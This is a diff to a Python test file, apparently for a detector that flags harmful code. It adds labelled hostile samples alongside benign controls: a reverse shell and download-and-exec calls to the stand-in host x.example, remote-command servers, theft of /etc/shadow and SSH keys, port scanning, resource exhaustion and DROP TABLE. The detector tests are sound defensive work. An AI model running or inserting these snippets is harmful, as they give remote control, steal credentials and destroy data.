@@ -128,10 +128,6 @@ HARM = [
         "python.container.escape",
     ),
     ("import docker\nd = docker.from_env()\nd.volumes.prune()", "python.container.destroyed"),
-    (
-        "import docker\nd = docker.from_env()\nfor one in d.containers.list():\n    one.kill()",
-        "python.container.destroyed",
-    ),
     # git and installers
     ("from git import Repo\nRepo('.').git.push('origin', 'main', force=True)", "shell.git.force_push"),
     (
@@ -179,6 +175,45 @@ HARM = [
         "c = m.Client()\nc.on_message = got\nc.loop_forever()",
         "python.run.remote",
     ),
+    (
+        "from http.server import *\nimport os\nclass A(BaseHTTPRequestHandler):\n    def do_POST(self):\n"
+        "        os.system(self.path)",
+        "python.run.remote",
+    ),
+    (
+        "from xmlrpc.server import SimpleXMLRPCServer as S\nimport os\ndef do(what):\n"
+        "    os.system(what)\n"
+        "s = S(('', 1))\ns.register_function(do)",
+        "python.run.remote",
+    ),
+    (
+        "import os, socket, subprocess\ns = socket.create_connection(('x.example', 1))\n"
+        "p = subprocess.Popen('/bin/sh', stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
+        "while True:\n    copy(s, p)",
+        "python.shell.reverse",
+    ),
+    (
+        "import os, urllib.request as u\np = '/tmp/b'\n"
+        "open(p, 'wb').write(u.urlopen('https://x.example/b').read())\n"
+        "os.execv(p, ['b'])",
+        "python.run.downloaded",
+    ),
+    (
+        "import io, sys, zipfile, requests\n"
+        "z = zipfile.ZipFile(io.BytesIO(requests.get('https://x.example/z').content))\n"
+        "z.extractall('/tmp/lib')\nsys.path.append('/tmp/lib')\nimport plugin",
+        "python.run.downloaded",
+    ),
+    (
+        "import paramiko\nc = paramiko.SSHClient()\nc.connect('x')\n"
+        "c.get_transport().request_port_forward('', 9)",
+        "python.network.tunnel",
+    ),
+    (
+        "import zipfile\nwith zipfile.ZipFile('a.zip', 'w') as z:\n    z.write('/etc/shadow')",
+        "python.collect.credentials",
+    ),
+    ("import tarfile\ntarfile.open('a.tgz', 'w').add('/root/.ssh')", "python.collect.credentials"),
     # what leaves
     (
         "import io, os, tarfile, requests\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\n"
@@ -222,6 +257,17 @@ HARM = [
         "python.exhaust.loop",
     ),
     (
+        "import os, uuid\nwhile True:\n    with open(os.path.join('/tmp', str(uuid.uuid4())), 'w'):\n"
+        "        pass",
+        "python.exhaust.loop",
+    ),
+    (
+        "import ipaddress, socket\nfor one in ipaddress.ip_network('10.1.0.0/16').hosts():\n"
+        "    socket.create_connection((str(one), 22), timeout=1)",
+        "python.network.scan",
+    ),
+    ("from playhouse.db import db\ndb.execute_sql('DROP TABLE carts')", "sql.drop.table"),
+    (
         "import asyncio, httpx\nasync def go():\n    async with httpx.AsyncClient() as web:\n"
         "        while True:\n            r = await web.get('https://x.example/')\n"
         "            await r.aread()\n"
@@ -238,6 +284,11 @@ def test_harm_by_libraries_is_high(code: str, finding: str) -> None:
 
 
 HONEST = [
+    "import docker\nfor one in docker.from_env().containers.list(filters={'name': 'test'}):\n    one.stop()",
+    "class Box:\n    def run_cmd(self, line):\n        return line\nBox().run_cmd('ls')",
+    "import tkinter as tk\nroot = tk.Tk()\nprint(root.clipboard_get())",
+    "import click\ndef check(ctx, param, value):\n    return value\n@click.command()\n"
+    "@click.option('--name', callback=check)\ndef main(name):\n    print(name)",
     "from django.db import models\nclass A(models.Model):\n    pass\nA.objects.all().delete()",
     "from django.conf import settings\n"
     "settings.configure(DEBUG=True, DATABASES={'default': {'NAME': ':memory:'}})\n"
